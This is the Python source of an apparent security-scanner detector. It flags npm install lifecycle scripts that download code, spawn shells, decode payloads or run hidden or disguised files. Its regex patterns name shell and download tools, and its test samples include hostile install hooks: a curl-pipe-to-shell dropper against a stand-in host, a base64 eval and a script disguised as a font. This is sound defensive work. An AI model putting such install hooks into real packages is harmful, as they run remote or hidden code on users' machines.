"""npm lifecycle scripts that run on `npm install` and fetch, spawn a shell or run inline code:
the trigger of most malicious npm packages and "Contagious Interview" coding tests."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator

from heistguard.artifacts.detectors.base import Detector, Sample, ScanContext, Target, urls_in
from heistguard.findings import Finding, Rule, Severity

RULE = Rule(
    id="artifacts.npm-install-script",
    severity=Severity.HIGH,
    title="npm install runs a script that fetches, spawns a shell or runs inline code",
    rationale="preinstall/install/postinstall/prepare run with the user's rights the moment someone types "
    "`npm install`; malicious packages and fake coding tests use them to fetch and start a loader "
    "(BeaverTail via postinstall). Running a local build script is common and reported as low.",
    attack=("T1195.002", "T1059.007"),
    references=("https://docs.npmjs.com/cli/v10/using-npm/scripts#life-cycle-scripts",),
)

# Scripts npm runs on `npm install` of the package or in the project (prepublish: npm < 5).
LIFECYCLE = ("preinstall", "install", "postinstall", "prepare", "prepublish", "preuninstall", "postuninstall")
# Each (reason, pattern): what makes an install script dangerous rather than a build step.
DANGER: tuple[tuple[str, re.Pattern[str]], ...] = (
    (
        "downloads",
        re.compile(r"\b(?:curl|wget|Invoke-WebRequest|iwr|Invoke-RestMethod|irm|certutil|bitsadmin)\b|https?://", re.I),
    ),
    ("pipes into a shell", re.compile(r"\|\s*(?:ba|z|da)?sh\b|\|\s*(?:python3?|node|perl|ruby)\b|\|\s*iex\b", re.I)),
    (
        "starts a shell",
        re.compile(r"\b(?:ba|z)?sh\s+-c\b|\bcmd(?:\.exe)?\s+/[ck]\b|\bpowershell\b|\bpwsh\b|\bosascript\b", re.I),
    ),
    ("runs inline code", re.compile(r"\b(?:node|python3?|perl|ruby)\s+(?:-\w+\s+)*-(?:e|c|p|-eval)\b")),
    (
        "decodes a payload",
        re.compile(r"\bbase64\s+(?:-d|--decode)\b|\batob\(|Buffer\.from\(|b64decode|fromCharCode", re.I),
    ),
    ("hides a process", re.compile(r"\bnohup\b|&\s*$|\bdisown\b|\bstart\s+/b\b|-WindowStyle\s+Hidden", re.I)),
    (
        "runs a hidden or disguised file",
        re.compile(
            r"\b(?:node|python3?|sh|bash)\s+(?:\S*/)?\.[\w-]+|\bnode\s+\S+\.(?:woff2?|ttf|png|jpe?g|gif|ico|svg|css|txt|md|json|log|dat)\b",
            re.I,
        ),
    ),
)
# Build steps that are what install scripts are for; not reported.
_BUILD_TOOLS = re.compile(
    r"^(?:npx\s+)?(?:node-gyp(?:-build)?|prebuild-install|node-pre-gyp|husky|patch-package|ngcc|tsc|"
    r"npm\s+run|yarn(?:\s+run)?|pnpm(?:\s+run)?|lerna|nx|turbo|is-ci|opencollective|electron-builder\s+install-app-deps|"
    r"ts-patch|simple-git-hooks|lefthook|playwright\s+install|cypress\s+install|esbuild|rimraf|echo)\b"
)


def _check(target: Target, ctx: ScanContext) -> Iterator[Finding]:
    try:
        manifest = json.loads(target.text)
    except ValueError:
        return
    scripts = manifest.get("scripts") if isinstance(manifest, dict) else None
    if not isinstance(scripts, dict):
        return
    for hook in LIFECYCLE:
        command = scripts.get(hook)
        if not isinstance(command, str) or not command.strip():
            continue
        offset = target.text.find(f'"{hook}"')
        evidence = [target.evidence(offset if offset >= 0 else None, f'"{hook}": {json.dumps(command)}')]
        reasons = [reason for reason, pattern in DANGER if pattern.search(command)]
        if reasons:
            yield RULE.finding(f"`{hook}` script {', '.join(reasons)}", evidence, indicators=urls_in(command))
        elif not all(_BUILD_TOOLS.match(part.strip()) for part in re.split(r"&&|\|\||;", command) if part.strip()):
            yield RULE.finding(f"`{hook}` script runs code on install", evidence, severity=Severity.LOW)


DETECTOR = Detector(
    rule=RULE,
    applies=lambda t: t.name == "package.json",
    check=_check,
    bad=(
        Sample(
            "package.json",
            b'{"name": "crypto-dashboard-test", "version": "1.0.0",\n'
            b' "scripts": {"postinstall": "curl -s https://cdn.example.invalid/p.sh | sh"}}\n',
            "postinstall dropper: fetch and pipe into a shell",
        ),
        Sample(
            "package.json",
            b'{"name": "x", "scripts": {"preinstall": '
            b'"node -e \\"eval(Buffer.from(process.env.X,\'base64\').toString())\\""}}',
            "inline decoder",
        ),
        Sample("package.json", b'{"name": "x", "scripts": {"prepare": "node ./public/.cache.js &"}}', "hidden file"),
        Sample("package.json", b'{"name": "x", "scripts": {"postinstall": "node fonts/fa-solid.woff2"}}', "disguised"),
    ),
    good=(
        Sample("package.json", b'{"name": "x", "scripts": {"test": "curl https://example.org | sh", "build": "tsc"}}'),
        Sample(
            "package.json", b'{"name": "bcrypt", "scripts": {"install": "node-pre-gyp install --fallback-to-build"}}'
        ),
        Sample("package.json", b'{"name": "app", "scripts": {"prepare": "husky install && npm run build"}}'),
    ),
)
